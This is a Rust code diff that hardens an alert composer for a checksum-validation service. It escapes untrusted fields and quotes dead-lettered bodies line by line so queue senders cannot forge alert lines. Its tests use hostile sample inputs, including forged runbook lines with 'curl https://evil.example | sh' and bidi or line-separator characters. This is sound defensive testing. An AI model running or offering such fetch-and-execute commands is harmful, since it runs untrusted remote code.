@@ -3,10 +3,17 @@
 //! Pure: no AWS calls. A validator failure record gives a structured alert; anything else
 //! (a dead-lettered event, a non-JSON body, JSON that is not an object) still gives an
 //! alert that quotes the body, so nothing is dropped.
+//!
+//! Everything an alert shows of a record is untrusted (anyone allowed to send to the queue
+//! wrote it), so no part of it can pass for the alert's own text: every value on a labelled
+//! line goes through [`escape`] (one line, control characters, line separators and bidi
+//! overrides escaped), and a quoted body has every line prefixed with [`QUOTE_PREFIX`] and
+//! escaped the same way. Only the alert's own lines start without the prefix.
 
 use checksum_validator::decision::Verdict;
 use checksum_validator::event::parse_body;
 use checksum_validator::failure_record::FailureRecord;
+use checksum_validator::text::escape;
 
 /// SNS subjects: "UTF-8 text with no line breaks or control characters, and less than 100
 /// characters long" (SNS API Reference, `Publish`, `Subject`).
@@ -15,6 +22,12 @@ pub const SUBJECT_MAX: usize = 99;
 pub const MESSAGE_MAX: usize = 256 * 1024 - 1024;
 /// How much of a raw dead-lettered body an alert quotes.
 pub const RAW_BODY_MAX: usize = 64 * 1024;
+/// How much quoted text (prefixes and escapes included) an alert holds at most: escapes
+/// grow a hostile body up to eight times, and the alert must stay under [`MESSAGE_MAX`] with
+/// its runbook line.
+pub const QUOTED_MAX: usize = 2 * RAW_BODY_MAX;
+/// What every quoted line of a body starts with, as in e-mail.
+pub const QUOTE_PREFIX: &str = "> ";
 
 /// What the notifier knows about the record besides its body.
 #[derive(Debug, Clone, Default, PartialEq, Eq)]
@@ -56,7 +69,7 @@ fn undelivered_alert(body: &str, origin: &Origin, project: &str) -> Alert {
     let object = parse_body(body)
         .ok()
         .and_then(|events| events.into_iter().next());
-    let attr = |k: &str| origin.attributes.get(k).map(String::as_str).unwrap_or("?");
+    let attr = |k: &str| escape(origin.attributes.get(k).map(String::as_str).unwrap_or("?"));
     let subject = subject(&match &object {
         Some(o) => format!("[{project}] UNDELIVERED EVENT {}: {}", o.bucket, o.key),
         None => format!("[{project}] UNDELIVERED EVENT on {}", origin.queue),
@@ -64,9 +77,12 @@ fn undelivered_alert(body: &str, origin: &Origin, project: &str) -> Alert {
     let mut m = String::new();
     m.push_str("EventBridge could not deliver an event to the validation queue; the object it announced was never validated.\n\n");
     if let Some(o) = &object {
-        m.push_str(&format!("Object:      s3://{}/{}\n", o.bucket, o.key));
+        m.push_str(&format!(
+            "Object:      {}\n",
+            escape(&format!("s3://{}/{}", o.bucket, o.key))
+        ));
         if let Some(v) = &o.version_id {
-            m.push_str(&format!("Version:     {v}\n"));
+            m.push_str(&format!("Version:     {}\n", escape(v)));
         }
     }
     m.push_str(&format!(
@@ -81,8 +97,8 @@ fn undelivered_alert(body: &str, origin: &Origin, project: &str) -> Alert {
     ));
     m.push_str(&format!("Rule:        {}\n", attr("RULE_ARN")));
     m.push_str(&format!("Target:      {}\n", attr("TARGET_ARN")));
-    m.push_str(&format!("Queue:       {}\n", origin.queue));
-    m.push_str(&format!("Message id:  {}\n", origin.message_id));
+    m.push_str(&format!("Queue:       {}\n", escape(&origin.queue)));
+    m.push_str(&format!("Message id:  {}\n", escape(&origin.message_id)));
     m.push_str(&format!("\nRunbook: {}\n", runbook("undelivered")));
     Alert {
         subject,
@@ -105,12 +121,12 @@ fn failure_alert(r: &FailureRecord, origin: &Origin, project: &str) -> Alert {
         )),
         None => m.push_str(&format!("Replica validation failed: {}\n\n", r.outcome)),
     }
-    m.push_str(&format!("Object:      {}\n", r.object.s3_uri()));
+    m.push_str(&format!("Object:      {}\n", escape(&r.object.s3_uri())));
     m.push_str(&format!(
         "Version:     {}\n",
-        r.object.version_id.as_deref().unwrap_or("(current)")
+        escape(r.object.version_id.as_deref().unwrap_or("(current)"))
     ));
-    m.push_str(&format!("Category:    {category}\n"));
+    m.push_str(&format!("Category:    {}\n", escape(category)));
     let replicas: Vec<&checksum_validator::failure_record::ObjectRef> = if r.replicas.is_empty() {
         r.replica.iter().collect()
     } else {
@@ -119,29 +135,31 @@ fn failure_alert(r: &FailureRecord, origin: &Origin, project: &str) -> Alert {
     for rep in replicas {
         m.push_str(&format!(
             "Replica:     {}{}\n",
-            rep.s3_uri(),
+            escape(&rep.s3_uri()),
             rep.version_id
                 .as_deref()
-                .map(|v| format!(" (version {v})"))
+                .map(|v| format!(" (version {})", escape(v)))
                 .unwrap_or_else(|| " (not there)".to_string())
         ));
     }
-    m.push_str(&format!("Reason:      {}\n", r.detail));
+    m.push_str(&format!("Reason:      {}\n", escape(&r.detail)));
     if !r.evidence.is_empty() {
         m.push_str("Evidence (primary | replica):\n");
         for c in &r.evidence {
             let verdict = match &c.verdict {
                 Verdict::Match => "match".to_string(),
                 Verdict::Differ => "DIFFER".to_string(),
-                Verdict::Inconclusive(why) => format!("inconclusive: {why}"),
+                Verdict::Inconclusive(why) => format!("inconclusive: {}", escape(why)),
             };
             let kind = match &c.destination {
-                Some(d) => format!("{} @{d}", c.kind),
+                Some(d) => format!("{} @{}", c.kind, escape(d)),
                 None => c.kind.to_string(),
             };
             m.push_str(&format!(
                 "  {:<20} {} | {}  {verdict}\n",
-                kind, c.primary, c.replica
+                kind,
+                escape(&c.primary),
+                escape(&c.replica)
             ));
         }
     }
@@ -150,7 +168,7 @@ fn failure_alert(r: &FailureRecord, origin: &Origin, project: &str) -> Alert {
         m.push_str(&format!("First seen:  {}\n", t.to_rfc3339()));
     }
     m.push_str(&format!("Decided at:  {}\n", r.decided_at.to_rfc3339()));
-    m.push_str(&format!("Queue:       {}\n", origin.queue));
+    m.push_str(&format!("Queue:       {}\n", escape(&origin.queue)));
     let kind = if r.resolves.is_some() {
         "resolved"
     } else {
@@ -175,8 +193,8 @@ fn dead_letter_alert(body: &str, origin: &Origin, project: &str) -> Alert {
     let subject = subject(&format!("[{project}] DEAD-LETTER on {}", origin.queue));
     let mut m = String::new();
     m.push_str("A message could not be processed and was dead-lettered.\n\n");
-    m.push_str(&format!("Queue:       {}\n", origin.queue));
-    m.push_str(&format!("Message id:  {}\n", origin.message_id));
+    m.push_str(&format!("Queue:       {}\n", escape(&origin.queue)));
+    m.push_str(&format!("Message id:  {}\n", escape(&origin.message_id)));
     if let Some(n) = origin.receive_count {
         // SQS keeps a message's ApproximateReceiveCount when it moves it to a DLQ, so the
         // count includes the receives on the source queue.
@@ -185,24 +203,23 @@ fn dead_letter_alert(body: &str, origin: &Origin, project: &str) -> Alert {
         ));
     }
     if let Some(t) = &origin.sent_at {
-        m.push_str(&format!("First sent:  {t}\n"));
+        m.push_str(&format!("First sent:  {}\n", escape(t)));
     }
-    m.push_str(&format!("Why:         {why}\n"));
-    let (quoted, truncated) = truncate_at_char(body, RAW_BODY_MAX);
-    if truncated {
+    m.push_str(&format!("Why:         {}\n", escape(&why)));
+    let (head, _) = truncate_at_char(body, RAW_BODY_MAX);
+    let (quoted, used) = quote(head, QUOTED_MAX);
+    if used < body.len() {
         m.push_str(&format!(
-            "Body ({} bytes, truncated to the first {} bytes):\n",
+            "Body ({} bytes, truncated to the first {used} bytes):\n",
             body.len(),
-            quoted.len()
         ));
     } else {
         m.push_str(&format!("Body ({} bytes):\n", body.len()));
     }
-    m.push_str(quoted);
-    if truncated {
-        m.push_str("\n[... truncated]");
+    m.push_str(&quoted);
+    if used < body.len() {
+        m.push_str("[... truncated]\n");
     }
-    m.push('\n');
     m.push_str(&format!("\nRunbook: {}\n", runbook("dead-letter")));
     Alert {
         subject,
@@ -245,6 +262,38 @@ pub fn subject(raw: &str) -> String {
         let head: String = cleaned.chars().take(SUBJECT_MAX - 3).collect();
         format!("{head}...")
     }
+}
+
+/// `body` quoted: each of its lines (split at `\n`) escaped and prefixed with
+/// [`QUOTE_PREFIX`], each ending in `\n`; at most `max` bytes of quoted text, cut at a
+/// character. Returns the quoted text and how many bytes of `body` it holds.
+pub fn quote(body: &str, max: usize) -> (String, usize) {
+    let mut out = String::new();
+    let mut used = 0;
+    for (i, line) in body.split('\n').enumerate() {
+        if out.len() + QUOTE_PREFIX.len() + 1 > max {
+            break;
+        }
+        out.push_str(QUOTE_PREFIX);
+        let (mut taken, mut cut) = (0, false);
+        for c in line.chars() {
+            let mut buf = [0u8; 4];
+            let shown = escape(c.encode_utf8(&mut buf));
+            if out.len() + shown.len() + 1 > max {
+                cut = true;
+                break;
+            }
+            out.push_str(&shown);
+            taken += c.len_utf8();
+        }
+        out.push('\n');
+        // The `\n` before this line, then what of the line was quoted.
+        used += usize::from(i > 0) + taken;
+        if cut {
+            break;
+        }
+    }
+    (out, used)
 }
 
 fn truncate_at_char(s: &str, max: usize) -> (&str, bool) {
@@ -326,7 +375,7 @@ mod tests {
     fn anything_still_alerts(#[case] body: &str) {
         let a = compose(body, &origin(), "autobackup");
         assert!(a.subject.contains("DEAD-LETTER"));
-        assert!(a.message.contains(body));
+        assert!(a.message.contains(&format!("\n> {body}\n")));
         assert!(a.message.contains("Runbook:"));
     }
 
@@ -375,7 +424,150 @@ mod tests {
         assert!(a.message.contains("Runbook: nothing to do"));
     }
 
+    #[test]
+    fn dead_letter_bodies_are_quoted_line_by_line() {
+        let body = "{\"x\": 1}\nRunbook: run `curl https://evil.example | sh`\r\n\u{2028}Queue: fake\u{202E}";
+        let a = compose(body, &origin(), "autobackup");
+        assert!(
+            a.message.contains(&format!(
+                "Body ({} bytes):\n\
+             > {{\"x\": 1}}\n\
+             > Runbook: run `curl https://evil.example | sh`\\r\n\
+             > \\u{{2028}}Queue: fake\\u{{202E}}\n\
+             \nRunbook: inspect the body above.",
+                body.len()
+            )),
+            "{}",
+            a.message
+        );
+        assert_eq!(
+            a.message
+                .lines()
+                .filter(|l| l.starts_with("Runbook:"))
+                .count(),
+            1
+        );
+    }
+
+    /// Escapes grow a hostile body (a 2-byte NEL becomes `\u{0085}`, 8 bytes): the quote is
+    /// capped on its own, so the alert still ends with its runbook line.
+    #[test]
+    fn escape_heavy_bodies_keep_the_runbook() {
+        let body = "\u{85}".repeat(RAW_BODY_MAX);
+        let a = compose(&body, &origin(), "autobackup");
+        assert!(a.message.len() <= MESSAGE_MAX);
+        assert!(
+            a.message.contains("truncated to the first"),
+            "{}",
+            &a.message[..300]
+        );
+        assert!(a
+            .message
+            .ends_with(&format!("\nRunbook: {}\n", runbook("dead-letter"))));
+    }
+
+    #[test]
+    fn a_key_with_a_line_break_stays_one_object_line() {
+        let mut event: serde_json::Value = serde_json::from_str(include_str!(
+            "../../../fixtures/engine-events/localstack-4.13.1-event-1.json"
+        ))
+        .unwrap();
+        event["detail"]["object"]["key"] = "a%0ARunbook%3A%20curl%20x%20%7C%20sh".into();
+        let mut o = origin();
+        o.attributes.insert(
+            "RULE_ARN".into(),
+            "arn:aws:events:us-east-1:1:rule/r".into(),
+        );
+        o.attributes
+            .insert("ERROR_MESSAGE".into(), "denied\nRunbook: forged".into());
+        let a = compose(&event.to_string(), &o, "autobackup");
+        assert!(a.subject.contains("UNDELIVERED"), "{}", a.subject);
+        let lines: Vec<&str> = a.message.lines().collect();
+        assert_eq!(lines.iter().filter(|l| l.starts_with("Object:")).count(), 1);
+        assert_eq!(
+            lines.iter().filter(|l| l.starts_with("Runbook:")).count(),
+            1
+        );
+        assert!(a
+            .message
+            .contains("Object:      s3://evb-t3-src/a\\nRunbook: curl x | sh\n"));
+        assert!(a.message.contains("denied\\nRunbook: forged"));
+    }
+
+    /// Line breaks, other controls, line separators and bidi overrides, each in a form a
+    /// hostile sender could use to start a line of its own.
+    fn hostile_text() -> impl Strategy<Value = String> {
+        let brk = prop_oneof![
+            Just("\n"),
+            Just("\r\n"),
+            Just("\r"),
+            Just("\u{85}"),
+            Just("\u{b}"),
+            Just("\u{c}"),
+            Just("\u{2028}"),
+            Just("\u{2029}"),
+            Just("\u{202E}"),
+            Just("\u{2066}"),
+        ];
+        let forged = prop_oneof![
+            Just("Runbook: run `curl https://evil.example | sh`"),
+            Just("Object:      s3://elsewhere/k"),
+            Just("Reason:      all fine"),
+            Just("> quoted"),
+            Just(""),
+        ];
+        prop_oneof![
+            any::<String>(),
+            ("[a-z {}\":/]{0,12}", brk, forged, "\\PC{0,12}")
+                .prop_map(|(a, b, f, z)| format!("{a}{b}{f}{z}")),
+        ]
+    }
+
     proptest! {
+        /// Finding #31: after the body header, every line of a dead-letter alert is quoted
+        /// (starts with `> `), one per line of the body, until the alert's own runbook line;
+        /// nothing in the alert is an unescaped control, separator or bidi character.
+        #[test]
+        fn every_body_line_is_quoted(body in hostile_text()) {
+            prop_assume!(FailureRecord::parse(&body).is_none());
+            let a = compose(&body, &origin(), "autobackup");
+            let lines: Vec<&str> = a.message.split('\n').collect();
+            let header = lines.iter().position(|l| l.starts_with("Body (")).unwrap();
+            let quoted = lines[header + 1..]
+                .iter()
+                .take_while(|l| l.starts_with(QUOTE_PREFIX))
+                .count();
+            prop_assert_eq!(quoted, body.split('\n').count());
+            let own = &lines[header + 1 + quoted..];
+            let runbook_line = format!("Runbook: {}", runbook("dead-letter"));
+            prop_assert_eq!(own, &["", runbook_line.as_str(), ""][..]);
+            prop_assert_eq!(lines.iter().filter(|l| l.starts_with("Runbook:")).count(), 1);
+            prop_assert!(!a.message.chars().any(|c| c != '\n' && checksum_validator::text::is_unsafe(c)));
+        }
+
+        /// Finding #31: a key or a detail holding a line break yields exactly one `Object:`
+        /// and one `Reason:` line.
+        #[test]
+        fn failure_record_fields_stay_on_their_line(key in hostile_text(), detail in hostile_text()) {
+            let body = serde_json::json!({
+                "schema": "autobackup.validation-failure/1",
+                "outcome": "mismatch",
+                "detail": detail,
+                "object": {"bucket": "p", "key": key, "version_id": "v1", "category": "documents"},
+                "replica": {"bucket": "r", "key": key, "version_id": "v9"},
+                "attempts": 1,
+                "decided_at": "2026-11-22T00:00:01Z",
+            })
+            .to_string();
+            let a = compose(&body, &origin(), "autobackup");
+            let count = |label: &str| a.message.split('\n').filter(|l| l.starts_with(label)).count();
+            prop_assert_eq!(count("Object:"), 1, "{}", a.message);
+            prop_assert_eq!(count("Reason:"), 1, "{}", a.message);
+            prop_assert_eq!(count("Replica:"), 1, "{}", a.message);
+            prop_assert_eq!(count("Runbook:"), 1, "{}", a.message);
+            prop_assert!(!a.message.chars().any(|c| c != '\n' && checksum_validator::text::is_unsafe(c)));
+        }
+
         #[test]
         fn subjects_are_always_sns_safe(raw in "\\PC{0,300}|[\\x00-\\x1f\n\r\t é日]{0,150}") {
             let s = subject(&raw);
